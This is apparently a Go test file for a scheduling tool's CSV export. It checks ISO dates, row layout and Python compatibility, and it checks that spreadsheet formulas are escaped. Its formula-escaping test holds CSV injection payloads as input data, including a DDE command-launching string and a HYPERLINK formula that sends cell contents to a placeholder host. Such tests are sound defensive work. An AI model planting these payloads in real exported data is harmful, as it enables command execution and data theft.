package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"github.com/commontext/commontext/engine/export"
	"github.com/commontext/commontext/engine/schedule"
)

func runCSV(t *testing.T, planJSON []byte, scenarios string) (export.Result, [][]string) {
	t.Helper()
	r, err := export.Builtin().Run(planJSON, export.Options{Format: "csv", Scenarios: scenarios, IDs: export.ContentID, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(r.Output, []byte(export.BOM)) {
		t.Fatalf("no BOM: %.40q", r.Output)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Output[len(export.BOM):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != strings.Join(export.CSVHeader, ",") {
		t.Fatalf("header %v", rows[0])
	}
	return r, rows
}

// col returns the column's index in the header.
func col(t *testing.T, name string) int {
	for i, h := range export.CSVHeader {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q", name)
	return -1
}

// TestCSVForSpreadsheets: the CSV people open in a spreadsheet (issue 20,
// point 3): the scenario shown by default, every one on request; a plan
// column; ISO dates; meetings by name and place, never by id; one row per
// step; an unschedulable scenario as one row with its reason in the
// problem column.
func TestCSVForSpreadsheets(t *testing.T) {
	// The SG17 calendar ends in May 2027: the paths through a later SG
	// meeting cannot be scheduled.
	short := editExample(t, "is-ct-aap.json", func(m map[string]any) {
		cal := m["meetings"].(map[string]any)
		var itu []any
		for _, x := range cal["itu"].([]any) {
			if x.(map[string]any)["start"].(string) < "2027-06" {
				itu = append(itu, x)
			}
		}
		cal["itu"] = itu
	})
	r, best := runCSV(t, short, "")
	ra, all := runCSV(t, short, "all")
	s := ra.Schedule
	iso := regexp.MustCompile(`^\d{4}-\d{2}-\d{2}$`)
	var ids []string
	for _, m := range s.Meetings {
		ids = append(ids, m.ID)
	}
	steps := 0
	for _, sc := range s.Scenarios {
		steps += max(len(sc.Steps), 1)
	}
	if len(all)-1 != steps {
		t.Errorf("%d rows for every scenario, want %d (one per step, one per unschedulable scenario)", len(all)-1, steps)
	}
	if len(best)-1 != len(s.Scenarios[0].Steps) {
		t.Errorf("%d rows by default, want the %d steps of the best case", len(best)-1, len(s.Scenarios[0].Steps))
	}
	unschedulable := 0
	for _, row := range all[1:] {
		if row[col(t, "plan")] != "Rec. ITU-T X.1299 | ISO/IEC 27599" {
			t.Errorf("plan column %q", row[col(t, "plan")])
		}
		if row[col(t, "step")] == "" {
			unschedulable++
			for i, cell := range row {
				if i != col(t, "plan") && i != col(t, "scenario") && i != col(t, "problem") && cell != "" {
					t.Errorf("unschedulable scenario %s: %s is %q, want empty", row[1], export.CSVHeader[i], cell)
				}
			}
			if !strings.Contains(row[col(t, "problem")], "no ITU-T SG") {
				t.Errorf("unschedulable scenario %s: problem %q", row[1], row[col(t, "problem")])
			}
			continue
		}
		for _, c := range []string{"start", "end"} {
			if !iso.MatchString(row[col(t, c)]) {
				t.Errorf("%s %q is not an ISO date", c, row[col(t, c)])
			}
		}
		for _, cell := range row {
			for _, id := range ids {
				if strings.Contains(cell, id) {
					t.Errorf("cell %q holds the meeting id %s", cell, id)
				}
			}
		}
		if row[col(t, "kind")] == schedule.KindMeeting && (row[col(t, "meeting")] == "" || row[col(t, "place")] == "") {
			t.Errorf("meeting step %s: meeting %q, place %q", row[2], row[col(t, "meeting")], row[col(t, "place")])
		}
	}
	if unschedulable == 0 {
		t.Error("no unschedulable scenario in the file")
	}
	for _, row := range best[1:] {
		if row[col(t, "scenario")] != "Best case" {
			t.Errorf("default: scenario %q, want the best case alone", row[1])
		}
	}
	pythonReadsTheSame(t, csvFile{r.Output, best}, csvFile{ra.Output, all})
}

// TestCSVNoFormulas: no cell, as a spreadsheet reads it, starts a formula
// (issue 12), even when the writer's line ends make one start with CR
// (issue 23, point 5: a place of "\n=1+1" was checked before the writer
// turned it into "\r\n=1+1").
func TestCSVNoFormulas(t *testing.T) {
	var files []csvFile
	for _, tc := range []struct{ place, want string }{
		{`@SUM(1+1)*cmd|" /C calc"!A0`, `'@SUM(1+1)*cmd|" /C calc"!A0`},
		{`=HYPERLINK("http://x.example/?"&A1,"x")`, `'=HYPERLINK("http://x.example/?"&A1,"x")`},
		{`+1+1`, `'+1+1`},
		{`-2+3`, `'-2+3`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\r\n=1+1", "'\n=1+1"},
		{"Geneva\n=1+1", "Geneva\n=1+1"},
		{`Geneva, CH`, `Geneva, CH`},
	} {
		p := editExample(t, "is-ct-aap.json", func(m map[string]any) {
			for _, ms := range m["meetings"].(map[string]any) {
				for _, x := range ms.([]any) {
					x.(map[string]any)["place"] = tc.place
				}
			}
		})
		r, rows := runCSV(t, p, "all")
		found := false
		for _, row := range rows[1:] {
			if row[col(t, "meeting")] == "" {
				continue
			}
			found = true
			if got := row[col(t, "place")]; got != tc.want {
				t.Errorf("place %q read back as %q, want %q", tc.place, got, tc.want)
			}
		}
		if !found {
			t.Fatal("no step at a meeting")
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
					t.Errorf("place %q: cell %q starts a formula", tc.place, cell)
				}
			}
		}
		files = append(files, csvFile{r.Output, rows})
	}
	pythonReadsTheSame(t, files...)
}

// csvFile is a CSV file and the rows Go read from it.
type csvFile struct {
	data []byte
	rows [][]string
}

// pythonReadsTheSame reads each CSV file with Python's csv module, as many
// scripts and notebooks do (BOM, quotes, line breaks in cells), and wants
// the rows Go read. One python3 process reads them all. It is skipped,
// saying so, where python3 is missing.
func pythonReadsTheSame(t *testing.T, files ...csvFile) {
	t.Helper()
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Log("python3 not found: the CSV is not read with Python's csv module here (CI has it)")
		return
	}
	in := make([][]byte, len(files))
	for i, f := range files {
		in[i] = f.data
	}
	stdin, err := json.Marshal(in) // base64 strings
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(py, "-c", `import base64, csv, io, json, sys
files = [base64.b64decode(f) for f in json.load(sys.stdin)]
json.dump([list(csv.reader(io.TextIOWrapper(io.BytesIO(f), encoding="utf-8-sig", newline=""))) for f in files], sys.stdout)`)
	cmd.Stdin = bytes.NewReader(stdin)
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("python3: %v", err)
	}
	var got [][][]string
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatal(err)
	}
	for n, f := range files {
		// encoding/csv reads a quoted CRLF as LF; Python keeps it.
		for _, row := range got[n] {
			for i := range row {
				row[i] = strings.ReplaceAll(row[i], "\r\n", "\n")
			}
		}
		if len(got[n]) != len(f.rows) {
			t.Fatalf("file %d: Python reads %d rows, Go %d", n, len(got[n]), len(f.rows))
		}
		for i := range f.rows {
			if strings.Join(got[n][i], "\x00") != strings.Join(f.rows[i], "\x00") {
				t.Errorf("file %d, row %d: Python reads %q, Go %q", n, i, got[n][i], f.rows[i])
			}
		}
	}
}
